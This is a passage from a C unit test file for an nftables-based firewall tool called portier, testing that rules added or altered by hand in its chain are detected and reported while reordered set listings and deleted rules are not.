 * A rule added to portier's chain by hand is reported, not silently lost
 * at the next apply; portier's own rules (nft's listing order of an
 * anonymous set included) are not.
 */
static void test_foreign_rule(void **state)
{
	struct portier_fw_policy p = {0};
	struct portier_err err = {0};
	struct portier_fw *fw;
	char *orig;

	(void)state;
	listed_json = slurp(fixture("listing-rules.json"));
	orig = slurp(fixture("listing-rules.nft"));
	assert_non_null(listed_json);
	assert_non_null(orig);
	listed_text = strdup(orig);
	assert_int_equal(portier_fw_open(&fw, &fixed_backend, "/nonexistent",
					 NULL),
			 0);
	assert_int_equal(portier_fw_current(fw, &p, &err), 0);
	assert_true(p.allow_only);
	assert_int_equal(p.n_from, 2);
	portier_fw_policy_free(&p);

	/* one more rule: nft add rule inet portier input tcp dport 8080 accept */
	edit_listing(orig, "\t\tcounter drop\n",
		     "\t\ttcp dport 8080 accept\n\t\tcounter drop\n");
	assert_int_equal(portier_fw_current(fw, &p, &err), PORTIER_EPROTO);
	assert_non_null(strstr(err.msg, "holds a rule portier did not write: "
					"'tcp dport 8080 accept'"));
	assert_non_null(strstr(err.hint, "table of your own"));
	assert_int_equal(p.n_from, 0); /* nothing half-read is left */
	/* a rule of portier's changed by hand */
	edit_listing(orig, "udp dport 68 accept", "udp dport 69 accept");
	assert_int_equal(portier_fw_current(fw, &p, &err), PORTIER_EPROTO);
	assert_non_null(strstr(err.msg, "'udp sport 67 udp dport 69 accept'"));
	/* a rule portier writes, twice: the second is not portier's */
	edit_listing(orig, "\t\tct direction reply accept\n",
		     "\t\tct direction reply accept\n"
		     "\t\tct direction reply accept\n");
	assert_int_equal(portier_fw_current(fw, &p, &err), PORTIER_EPROTO);
	assert_non_null(strstr(err.msg, "'ct direction reply accept'"));
	/* a set listed in another order, other blanks: still portier's */
	edit_listing(orig, "{ destination-unreachable, echo-request, "
			   "time-exceeded, parameter-problem }",
		     "{parameter-problem,time-exceeded,  echo-request, "
		     "destination-unreachable}");
	assert_int_equal(portier_fw_current(fw, &p, &err), 0);
	portier_fw_policy_free(&p);
	/* a rule deleted by hand is no loss: the next apply writes it again */
	edit_listing(orig, "\t\tudp sport 547 udp dport 546 accept\n", "");
	assert_int_equal(portier_fw_current(fw, &p, &err), 0);
	portier_fw_policy_free(&p);

	portier_fw_close(fw);
	free(listed_json);
	free(listed_text);
	free(orig);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssh_from_env),
		cmocka_unit_test(test_ssh_from_proc),
		cmocka_unit_test(test_ssh_guard),
		cmocka_unit_test(test_conns_and_keep),
		cmocka_unit_test(test_suggest),
		cmocka_unit_test(test_apply_undo),
		cmocka_unit_test(test_state_dir_unwritable),
		cmocka_unit_test(test_state_dir_trust),
		cmocka_unit_test(test_stop_command),
		cmocka_unit_test(test_sshd_guard),
		cmocka_unit_test(test_foreign_rule),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
